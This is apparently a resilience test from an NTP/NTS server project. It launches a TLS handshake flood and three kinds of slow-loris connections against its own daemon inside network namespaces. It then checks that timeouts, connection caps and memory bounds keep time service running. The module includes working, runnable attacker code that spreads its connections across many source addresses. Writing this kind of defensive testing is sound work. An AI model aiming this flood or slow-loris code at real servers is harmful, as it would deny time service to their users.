# -*- test-case-name: tests.attacks.test_ntske_flood -*-
# Copyright (c) ntpservice developers. See LICENSE for details.
"""
NTS-KE floods (issue 17, item 3): a flood of complete TLS handshakes and
slow-loris TLS clients do not stop time service.

The attacks: NTS-KE (RFC 8915 section 4) runs over TLS on TCP, which an
off-path attacker cannot spoof, but any host can open connections. A
handshake costs the server a key exchange and a signature, so a flood of
complete handshakes spends its CPU (the "TLS renegotiation/handshake DoS",
THC-SSL-DOS, 2011); slow-loris clients (R. Hansen, 2009) open connections
and dribble bytes, or never send their ClientHello, to hold every slot a
server has. RFC 8915 section 8.4 leaves it to implementations ("servers
SHOULD ... limit the rate of NTS-KE requests"). Our defences
(L{ntpservice.nts.ke}): a connection is aborted when the handshake,
request and response take more than 10 s (C{HANDSHAKE_TIMEOUT}), at most
256 are open at once (C{MAX_CONNECTIONS}), at most
C{MAX_CONNECTIONS_PER_ADDRESS} from one address, and the NTP requests of
NTS clients that hold cookies need no TLS at all.

The test: three namespaces on one segment (L{peers.Network}); our daemon
serves NTP and NTS (stratum 1 from its LOCAL clock, fast path on); a
client host runs chronyd as an NTS client (C{minpoll 0}: a request a
second), a plain NTP client asking once a second, and a fresh NTS-KE
exchange every 2 s (what a new NTS client does); an attacker host runs,
at the same time for L{ATTACK_SECONDS}:

  - a handshake flood: L{FLOOD_WORKERS} concurrent loops of complete
    NTS-KE exchanges (TLS 1.3 handshake, request, eight cookies back);
  - slow-loris clients, L{LORIS} connections of each kind, each reopened
    as soon as it is closed: C{silent} (TCP only, no ClientHello),
    C{hello} (the ClientHello a byte a second) and C{request} (the
    handshake done, then the NTS-KE request a byte a second).

Asserted: no slow-loris connection lives longer than the timeout (and
slack); the kernel never counts many more established connections than
the 256 admitted (plus the listen backlog); the NTS client's authenticated replies kept coming during the
attack; the plain client and the fresh NTS-KE exchanges were answered
(most of them); the daemon's memory grew by at most L{MEMORY_BOUND}; the
daemon counted the timeouts and refusals.

Run as a program (inside the attacker's namespace), this module is the
attacker: C{python -m tests.attacks.test_ntske_flood flood|loris ...}.
"""

from __future__ import annotations

import asyncio
import json
import os
import ssl
import subprocess
import sys
import time
from typing import Any

KE_REQUEST = bytes.fromhex("800100020000" "80040002000f" "80000000")
"""NTS Next Protocol NTPv4, AEAD AES-SIV-CMAC-256, End of Message."""


# -- the attacker (run in its namespace) -----------------------------------


def clientContext() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.set_alpn_protocols(["ntske/1"])
    return context


async def exchange(host: str, port: int, context: ssl.SSLContext, timeout: float,
                   source: str) -> bool:
    """One complete NTS-KE exchange: whether cookies came back."""
    writer = None
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, ssl=context, local_addr=(source, 0)),
            timeout)
        writer.write(KE_REQUEST)
        data = await asyncio.wait_for(reader.read(65536), timeout)
        while data and not data.endswith(b"\x80\x00\x00\x00"):
            more = await asyncio.wait_for(reader.read(65536), timeout)
            if not more:
                break
            data += more
        return b"\x00\x05" in data and data.endswith(b"\x80\x00\x00\x00")
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        return False
    finally:
        if writer is not None:
            writer.close()


async def flood(host: str, port: int, workers: int, seconds: float,
                sources: list[str]) -> dict[str, Any]:
    """Complete NTS-KE exchanges in C{workers} loops for C{seconds}."""
    context = clientContext()
    end = time.monotonic() + seconds
    counts = {"completed": 0, "failed": 0}

    async def worker(source: str) -> None:
        while time.monotonic() < end:
            ok = await exchange(host, port, context, 10.0, source)
            counts["completed" if ok else "failed"] += 1
            if not ok:
                await asyncio.sleep(0.1)

    start = time.monotonic()
    await asyncio.gather(*(worker(sources[i % len(sources)]) for i in range(workers)))
    counts["per_second"] = round(counts["completed"] / (time.monotonic() - start))
    return counts


async def loris(host: str, port: int, kind: str, count: int, seconds: float,
                sources: list[str]) -> dict[str, Any]:
    """
    C{count} slow connections of C{kind}, each reopened when closed, for
    C{seconds}: how long the server kept each.
    """
    end = time.monotonic() + seconds
    lifetimes: list[float] = []
    stats = {"opened": 0, "failed": 0, "open_at_end": 0}

    async def dribble(writer: Any, data: bytes) -> None:
        for i in range(len(data)):
            if time.monotonic() >= end:
                return
            writer.write(data[i:i + 1])
            await writer.drain()
            await asyncio.sleep(1.0)

    async def one(source: str) -> None:
        while time.monotonic() < end:
            opened = time.monotonic()
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port, local_addr=(source, 0)), 10)
            except (OSError, asyncio.TimeoutError):
                stats["failed"] += 1
                await asyncio.sleep(0.5)
                continue
            stats["opened"] += 1
            sending: Any = None
            try:
                if kind == "hello":
                    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
                    tls = clientContext().wrap_bio(incoming, outgoing)
                    try:
                        tls.do_handshake()
                    except ssl.SSLWantReadError:
                        pass
                    sending = asyncio.ensure_future(dribble(writer, outgoing.read()))
                elif kind == "request":
                    await asyncio.wait_for(writer.start_tls(clientContext()), 10)
                    sending = asyncio.ensure_future(dribble(writer, KE_REQUEST))
                while time.monotonic() < end:
                    try:
                        data = await asyncio.wait_for(reader.read(4096),
                                                      max(0.01, end - time.monotonic()))
                    except asyncio.TimeoutError:
                        break
                    if not data:
                        break
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                pass
            finally:
                if sending is not None:
                    sending.cancel()
            if time.monotonic() >= end:
                stats["open_at_end"] += 1
                lifetimes.append(time.monotonic() - opened)
                writer.close()
                return
            lifetimes.append(time.monotonic() - opened)
            writer.close()

    await asyncio.gather(*(one(sources[i % len(sources)]) for i in range(count)))
    closed = [t for t in lifetimes]
    return {
        "kind": kind,
        **stats,
        "longest": round(max(closed, default=0.0), 2),
        "refused_at_once": sum(1 for t in closed if t < 1.0),
    }


def attackerMain(argv: list[str]) -> int:
    mode, host, port, seconds = argv[0], argv[1], int(argv[2]), float(argv[3])
    if mode == "flood":
        result = asyncio.run(flood(host, port, int(argv[4]), seconds, argv[5].split(",")))
    elif mode == "loris":
        count, sources = int(argv[5]), argv[6].split(",")

        async def all() -> list[dict[str, Any]]:
            return list(await asyncio.gather(*(
                loris(host, port, kind, count, seconds, sources)
                for kind in argv[4].split(","))))

        result = {"loris": asyncio.run(all())}  # type: ignore[dict-item]
    else:
        return 2
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(attackerMain(sys.argv[1:]))


# -- the test --------------------------------------------------------------

import pytest  # noqa: E402

from twisted.trial.unittest import SynchronousTestCase  # noqa: E402

from ntpservice.nts import ke  # noqa: E402
from tests.attacks import spoof  # noqa: E402
from tests.attacks.test_spoofed_flood import POLITE, memory  # noqa: E402
from tests.interop import peers  # noqa: E402
from tests.interop.test_nts import (  # noqa: E402
    ntpdata,
    ntsCounters,
    ntsServerConfig,
    removeSocketDirectory,
    startChronydClient,
    waitFor,
)
from tests.nts.certs import makeCA, makeServer  # noqa: E402

pytestmark = [pytest.mark.interop, pytest.mark.netns, pytest.mark.heavy]

ATTACK_SECONDS = 25.0
FLOOD_WORKERS = 32
LORIS = 100
"""Slow connections of each kind held at once by the attacker."""

ATTACKER_ADDRESSES = 24
"""The attacker's addresses: its connections come from each in turn, so
that together they exceed the 256 connections open at once (16 from each
address at most)."""

MEMORY_BOUND = 48 * 1024 * 1024
"""Bytes the daemon's peak resident memory may grow by under the attack:
256 connections of a few tens of KiB of TLS state each, and slack."""

FRESH_KE = r"""
import json, socket, ssl, sys, time
host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
request = bytes.fromhex("800100020000" "80040002000f" "80000000")
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.load_verify_locations(sys.argv[4])
context.check_hostname = False
context.minimum_version = ssl.TLSVersion.TLSv1_3
context.set_alpn_protocols(["ntske/1"])
print(json.dumps({"ready": True}), flush=True)
end = time.monotonic() + seconds
while time.monotonic() < end:
    start = time.monotonic()
    ok = False
    try:
        with socket.create_connection((host, port), timeout=10) as raw:
            with context.wrap_socket(raw) as tls:
                tls.sendall(request)
                data = b""
                while not data.endswith(b"\x80\x00\x00\x00"):
                    more = tls.recv(65536)
                    if not more:
                        break
                    data += more
                ok = b"\x00\x05" in data and data.endswith(b"\x80\x00\x00\x00")
    except (OSError, ssl.SSLError):
        pass
    print(json.dumps({"at": start, "ok": ok, "seconds": time.monotonic() - start}),
          flush=True)
    time.sleep(max(0.0, 2.0 - (time.monotonic() - start)))
"""
"""A new NTS client every 2 s: one NTS-KE exchange (the CA verified), a
JSON line each: when, whether cookies came back, how long it took."""


class NTSKEFloodTests(SynchronousTestCase):
    """
    A handshake flood and slow-loris clients at once leave NTP and NTS
    time service running.
    """

    def setUp(self) -> None:
        peers.requireRoot()
        peers.requireBinary("chronyd")
        peers.requireBinary("ntpq")
        self.workdir = os.path.abspath(self.mktemp())
        os.makedirs(self.workdir)
        self.addCleanup(removeSocketDirectory, self.workdir)
        self.network = peers.Network(hosts=3)
        self.network.__enter__()
        self.addCleanup(self.network.close)
        self.server, self.attacker, self.client = self.network.hosts
        ca = makeCA(self.workdir)
        self.ca = ca[0].cert
        issued = makeServer(self.workdir, ca, ("nts.test",), (self.server.address,))
        self.config = ntsServerConfig(self.workdir, issued.cert, issued.key)

    def counters(self) -> dict[str, int]:
        """The daemon's NTS counters (C{ntpq ntsinfo})."""
        return ntsCounters(self.server.run(
            [peers.requireBinary("ntpq"), "-c", "ntsinfo", "127.0.0.1"], timeout=60).stdout)

    def established(self) -> int:
        """Established TCP connections to the NTS-KE port, per the kernel."""
        return len(self.server.run(
            ["ss", "-Htn", "state", "established", "( sport = :4460 )"],
            timeout=60).stdout.splitlines())

    def test_floodAndSlowLoris(self) -> None:
        """
        During a handshake flood and slow-loris connections of every kind:
        chronyd's authenticated NTS replies keep coming, the plain client
        and new NTS-KE clients are answered, no slow connection outlives
        the timeout, and memory stays bounded.
        """
        daemon = peers.startNtpservice(self.workdir, self.config, netns=self.server,
                                       host=self.server.address, synchronised=True,
                                       timeout=60)
        self.addCleanup(daemon.stop)
        assert daemon.pid is not None
        serverLine = f"server {self.server.address} nts iburst minpoll 0 maxpoll 0"
        chronyd = startChronydClient(self.workdir, serverLine, self.ca, netns=self.client)
        self.addCleanup(chronyd.stop)

        def authenticated() -> dict[str, str] | None:
            data = ntpdata(self.workdir, self.client)
            if data.get("Authenticated") == "Yes" and int(data.get("Total good RX", "0")) >= 2:
                return data
            return None

        self.assertTrue(waitFor(authenticated, 60), ntpdata(self.workdir, self.client))
        before = self.counters()
        memoryBefore = memory(daemon.pid)
        ntpBefore = ntpdata(self.workdir, self.client)
        goodBefore = int(ntpBefore["Total good RX"])

        seconds = ATTACK_SECONDS
        polite = self.client.popen(
            [sys.executable, "-c", POLITE, self.server.address, str(seconds)],
            stdout=subprocess.PIPE, text=True)
        self.addCleanup(polite.kill)
        fresh = self.client.popen(
            [sys.executable, "-c", FRESH_KE, self.server.address, "4460", str(seconds),
             self.ca], stdout=subprocess.PIPE, text=True)
        self.addCleanup(fresh.kill)
        for process in (polite, fresh):
            assert process.stdout is not None
            self.assertEqual(json.loads(process.stdout.readline()), {"ready": True})
        attacker = spoof.moduleCommand("tests.attacks.test_ntske_flood")
        prefix = self.attacker.address.rsplit(".", 1)[0]
        sources = [self.attacker.address]
        for i in range(ATTACKER_ADDRESSES - 1):
            sources.append(f"{prefix}.{100 + i}")
            self.attacker.run(["ip", "addr", "add", f"{sources[-1]}/24", "dev",
                               self.attacker.interface])
        floodProcess = self.attacker.popen(
            attacker + ["flood", self.server.address, "4460", str(seconds),
                        str(FLOOD_WORKERS), ",".join(sources)],
            stdout=subprocess.PIPE, text=True)
        self.addCleanup(floodProcess.kill)
        lorisProcess = self.attacker.popen(
            attacker + ["loris", self.server.address, "4460", str(seconds),
                        "silent,hello,request", str(LORIS), ",".join(sources)],
            stdout=subprocess.PIPE, text=True)
        self.addCleanup(lorisProcess.kill)
        start = time.monotonic()
        established = []
        while floodProcess.poll() is None and time.monotonic() < start + seconds + 120:
            established.append(self.established())
            time.sleep(0.5)
        flooded = json.loads(floodProcess.communicate(timeout=seconds + 120)[0])
        slow = json.loads(lorisProcess.communicate(timeout=seconds + 120)[0])["loris"]
        end = time.monotonic()
        answers = [json.loads(line) for line in
                   polite.communicate(timeout=60)[0].splitlines()]
        exchanges = [json.loads(line) for line in
                     fresh.communicate(timeout=60)[0].splitlines()]
        ntpAfter = ntpdata(self.workdir, self.client)
        goodAfter = int(ntpAfter["Total good RX"])
        memoryAfter = memory(daemon.pid)
        after = self.counters()

        answered = [a["answered"] for a in answers]
        keOK = [e["ok"] for e in exchanges]
        figures = {
            "handshake_flood": flooded,
            "loris": slow,
            "attack_seconds": round(end - start, 1),
            "established_peak": max(established),
            "nts_good_replies_during": goodAfter - goodBefore,
            "chronyd_during": {
                name: int(ntpAfter.get(name, "0")) - int(ntpBefore.get(name, "0"))
                for name in ("Total TX", "Total RX", "Total valid RX", "Total good RX")},
            "plain_answered": f"{sum(answered)}/{len(answered)}",
            "fresh_ke_ok": f"{sum(keOK)}/{len(keOK)}",
            "fresh_ke_slowest": round(max((e["seconds"] for e in exchanges), default=0), 2),
            "rss_before_kib": memoryBefore["VmRSS"] // 1024,
            "rss_after_kib": memoryAfter["VmRSS"] // 1024,
            "peak_growth_kib": (memoryAfter["VmHWM"] - memoryBefore["VmRSS"]) // 1024,
            "counters": {k: after.get(k, 0) - before.get(k, 0) for k in after},
        }
        sys.stderr.write(f"NTS-KE flood: {json.dumps(figures)}\n")

        self.assertGreater(flooded["completed"], 100, figures)
        # At most 256 connections admitted (the kernel also counts those
        # waiting to be accepted, up to the listen backlog, and those
        # refused but not yet closed).
        self.assertGreater(max(established), 200, figures)
        self.assertLessEqual(
            max(established), ke.MAX_CONNECTIONS + ke.LISTEN_BACKLOG + 50, figures
        )
        for kind in slow:
            self.assertGreater(kind["opened"], 0, figures)
            self.assertLessEqual(kind["longest"], ke.HANDSHAKE_TIMEOUT + 5, figures)
        # Time service went on.
        self.assertGreaterEqual(goodAfter - goodBefore, seconds / 4, figures)
        self.assertGreaterEqual(sum(answered), 0.8 * len(answered), figures)
        self.assertGreaterEqual(sum(keOK), 0.7 * len(keOK), figures)
        self.assertLessEqual(memoryAfter["VmHWM"] - memoryBefore["VmRSS"], MEMORY_BOUND,
                             figures)
        self.assertTrue(daemon.running(), daemon.output())
